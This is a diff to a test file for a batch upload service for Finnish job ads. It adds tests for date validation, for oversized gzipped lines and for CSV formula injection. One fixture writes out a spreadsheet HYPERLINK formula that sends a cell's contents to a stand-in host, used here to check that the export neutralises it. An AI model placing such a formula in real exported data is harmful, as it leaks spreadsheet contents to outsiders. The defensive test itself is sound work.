@@ -64,7 +64,12 @@ describe.each(engines())('batch uploads on %s', (engine) => {
     ).toEqual([
       { row: 3, line: 3, id: null, reason: 'not valid JSON' },
       { row: 4, line: 4, id: null, reason: 'empty text' },
-      { row: 6, line: 6, id: null, reason: 'date "yesterday" is not YYYY-MM-DD, an ISO timestamp or D.M.YYYY' },
+      {
+        row: 6,
+        line: 6,
+        id: null,
+        reason: 'date "yesterday" is not YYYY-MM-DD, an ISO timestamp or D.M.YYYY in the years 1900–2999',
+      },
       { row: 7, line: 7, id: null, reason: 'no text' },
       { row: 9, line: 9, id: 'fi-1', reason: 'duplicate id "fi-1" (an earlier row has it)' },
     ]);
@@ -107,6 +112,16 @@ describe.each(engines())('batch uploads on %s', (engine) => {
     expect(csv.body.trim().split('\n')).toHaveLength(5);
     const errors = lines((await s.app.inject({ method: 'GET', url: `/v1/batches/${first.id}/errors` })).body);
     expect(errors).toHaveLength(5);
+  });
+
+  it('writes CSV results whose cells a spreadsheet cannot run as formulas', async () => {
+    const id = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")';
+    const row = { id, text: 'Haemme hitsaajaa Seinäjoelle. Työ sisältää MIG-hitsausta.', language: 'fi' };
+    const up = (await upload(`${JSON.stringify(row)}\n`)).json<Status>();
+    await finished(up.id);
+    const csv = (await s.app.inject({ method: 'GET', url: `/v1/batches/${up.id}/results?format=csv` })).body;
+    const cell = csv.split('\n')[1]!.split(',')[0]!;
+    expect(cell).toBe(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1`);
   });
 
   it('does not duplicate documents when the same dump is uploaded again, gzipped', async () => {
@@ -161,6 +176,31 @@ describe.each(engines())('batch uploads on %s', (engine) => {
     expect(await s.db.query("SELECT employer FROM documents WHERE external_id = 'nul-1'")).toEqual([
       { employer: { name: 'Puuseppä Oy', businessId: '1234567-8' } },
     ]);
+  });
+
+  it('reports a 2-GiB line as a row, without holding it, and stores the rows around it', async () => {
+    // a line of 2 GiB (more than a string can hold) in a few megabytes of gzip members, one after another: the
+    // line is counted as it streams past, never kept whole
+    const block = gzipSync(Buffer.alloc(64 * 1024 * 1024, 'x'));
+    const dump = Buffer.concat([
+      gzipSync('{"id":"before-long","text":"Haemme hitsaajaa Vaasaan."}\n{"id":"long-1","text":"'),
+      ...Array.from({ length: 32 }, () => block),
+      gzipSync('"}\n{"id":"after-long","text":"Haemme hitsaajaa Ouluun."}'),
+    ]);
+    expect(dump.length).toBeLessThan(10_000_000);
+    const res = await upload(dump);
+    expect(res.statusCode, res.body).toBe(202);
+    const st = res.json<Status>();
+    expect(st).toMatchObject({ rows: 3, accepted: 2, rejected: 1 });
+    expect(st.errors[0]).toMatchObject({
+      row: 2,
+      line: 2,
+      reason: expect.stringMatching(/line is \d+ bytes long; the limit is/),
+    });
+    // a year 0 is a row error too, not a database error
+    const old = await upload('{"id":"year-0","text":"Haemme hitsaajaa.","date":"0000-01-01"}');
+    expect(old.json<Status>()).toMatchObject({ accepted: 0, rejected: 1 });
+    expect((await s.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
   });
 
   it('answers bad requests with 4xx', async () => {
